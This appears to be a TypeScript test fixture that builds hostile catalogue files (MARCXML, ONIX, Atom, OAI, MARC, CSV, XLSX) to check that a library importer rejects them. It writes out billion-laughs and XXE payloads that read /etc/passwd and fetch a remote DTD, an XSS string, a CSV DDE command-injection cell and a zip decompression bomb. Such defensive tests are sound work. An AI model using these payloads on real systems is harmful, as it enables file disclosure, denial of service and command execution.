// Files of catalogue records that were made to do harm, each with the reason that a librarian is told,
// or with what is shown of it where it is taken as plain text.
import { crc32, deflateRawSync } from 'node:zlib'

export interface HostileRecords {
  name: string
  bytes: Buffer
  /** The last part of the key of the reason: import.reason.… or import.… */
  reason?: string
  /** Texts of the rows that are taken. */
  shown?: string[]
}

const laughs = `<!DOCTYPE x [<!ENTITY l0 "ха">${Array.from(
  { length: 9 },
  (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`,
).join('')}]>`
const outside = `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://foreign.example/x.dtd"> %p;]>`

const marcxml = (title: string, before = '') =>
  `<?xml version="1.0"?>${before}<collection xmlns="http://www.loc.gov/MARC21/slim"><record><leader>00000nam a2200000 a 4500</leader>
  <datafield tag="245" ind1="1" ind2="0"><subfield code="a">${title}</subfield></datafield></record></collection>`

const onix = (title: string, before: string) =>
  `${before}<ONIXmessage release="3.0"><product><a001>1</a001><a002>03</a002><descriptivedetail><titledetail><b202>01</b202>
  <titleelement><x409>01</x409><b203>${title}</b203></titleelement></titledetail></descriptivedetail></product></ONIXmessage>`

const atom = (title: string, before: string) =>
  `${before}<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>${title}</title><id>urn:1</id>
  <link rel="http://opds-spec.org/acquisition" href="/1.epub"/></entry></feed>`

const oai = (title: string, before: string) =>
  `${before}<OAI-PMH><ListRecords><record><header><identifier>1</identifier></header><metadata><dc><title>${title}</title></dc></metadata>
  </record></ListRecords></OAI-PMH>`

/** A record of ISO 2709 whose leader and directory say what they are told to. */
function iso({ length, entry }: { length?: string; entry?: string }) {
  const body = '10\x1faНом\x1e'
  const size = Buffer.from(body).length
  const directory = entry ?? `245${`${size}`.padStart(4, '0')}00000`
  const base = `${24 + directory.length + 1}`.padStart(5, '0')
  const said = length ?? `${24 + directory.length + 1 + size + 1}`.padStart(5, '0')
  return `${said}nam a22${base} a 4500${directory}\x1e${body}\x1d`
}

/** A workbook whose only sheet is deflated. */
function workbook(sheet: Buffer, before = ''): Buffer {
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
  const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
  const members: [string, Buffer][] = [
    [
      'xl/workbook.xml',
      Buffer.from(
        `${before}<workbook xmlns="${main}" xmlns:r="${office}"><sheets><sheet name="1" sheetId="1" r:id="r1"/></sheets></workbook>`,
      ),
    ],
    [
      'xl/_rels/workbook.xml.rels',
      Buffer.from(
        '<Relationships><Relationship Id="r1" Target="worksheets/sheet1.xml"/></Relationships>',
      ),
    ],
    ['xl/worksheets/sheet1.xml', sheet],
  ]
  const parts: Buffer[] = []
  const central: Buffer[] = []
  let at = 0
  for (const [name, bytes] of members) {
    const packed = deflateRawSync(bytes)
    const facts = Buffer.alloc(26)
    facts.writeUInt16LE(20, 0)
    facts.writeUInt16LE(8, 4)
    facts.writeUInt32LE(crc32(bytes), 10)
    facts.writeUInt32LE(packed.length, 14)
    facts.writeUInt32LE(bytes.length, 18)
    facts.writeUInt16LE(name.length, 22)
    const place = Buffer.alloc(16)
    place.writeUInt32LE(at, 12)
    parts.push(Buffer.from('PK\x03\x04'), facts, Buffer.from(name), packed)
    central.push(Buffer.from('PK\x01\x02\x14\x00'), facts, place, Buffer.from(name))
    at += 30 + name.length + packed.length
  }
  const directory = Buffer.concat(central)
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 'latin1')
  end.writeUInt16LE(members.length, 8)
  end.writeUInt16LE(members.length, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(at, 16)
  return Buffer.concat([...parts, directory, end])
}

/** Cells that a spreadsheet would take for formulas. */
const formulas = ["=cmd|'/C calc'!A0", '+1+1', '-2+3', '@SUM(1;1)', '\t=1+1']

const table = ['Нэр,Он', ...formulas.map((cell) => `"${cell}",1999`)].join('\n')

const mebibytes = (n: number, text: string) => text.repeat((n << 20) / text.length)

const files: [
  name: string,
  text: string | Buffer,
  wanted: Omit<HostileRecords, 'name' | 'bytes'>,
][] = [
  ['laughs.xml', marcxml('&l9;', laughs), { reason: 'reason.xml' }],
  ['outside.xml', marcxml('&e;', outside), { reason: 'reason.xml' }],
  ['onix-laughs.xml', onix('&l9;', laughs), { reason: 'reason.xml' }],
  ['onix-outside.xml', onix('&e;', outside), { reason: 'reason.xml' }],
  ['atom-laughs.xml', atom('&l9;', laughs), { reason: 'reason.xml' }],
  ['atom-outside.xml', atom('&e;', outside), { reason: 'reason.xml' }],
  ['oai-outside.xml', oai('&e;', outside), { reason: 'reason.xml' }],
  ['deep.xml', `<collection>${'<record>'.repeat(100_000)}`, { reason: 'reason.xml' }],
  [
    'script.xml',
    marcxml('&lt;img src=x onerror=alert(1)&gt;'),
    { shown: ['<img src=x onerror=alert(1)>'] },
  ],
  ['field.xml', marcxml(mebibytes(5, 'аб')), { reason: 'reason.too_large' }],
  ['longer.mrc', iso({ length: '99999' }), { shown: ['Ном'] }],
  ['shorter.mrc', iso({ length: '00001' }), { shown: ['Ном'] }],
  ['directory.mrc', iso({ entry: '24599999999924500010000' }), { reason: 'reason.directory' }],
  ['cut.mrc', iso({}).slice(0, -2), { reason: 'reason.truncated' }],
  ['field.mrc', `${iso({}).slice(0, -1)}${mebibytes(5, 'ab')}\x1d`, { reason: 'reason.too_large' }],
  ['deep.json', `{"publications":${'['.repeat(200_000)}`, { reason: 'reason.json' }],
  ['formulas.csv', table, { shown: formulas.map((cell) => cell.trim()) }],
  ['line.csv', `Нэр,Он\n"${mebibytes(3, 'аб')}`, { reason: 'reason.long_line' }],
  ['laughs.xlsx', workbook(Buffer.from('<worksheet/>'), laughs), { reason: 'reason.not_workbook' }],
  [
    'bomb.xlsx',
    workbook(Buffer.from(`<worksheet><sheetData>${mebibytes(256, '<row/>  ')}`)),
    { reason: 'reason.not_workbook' },
  ],
]

export const hostileRecords: HostileRecords[] = files.map(([name, text, wanted]) => ({
  name,
  bytes: Buffer.from(text as string),
  ...wanted,
}))
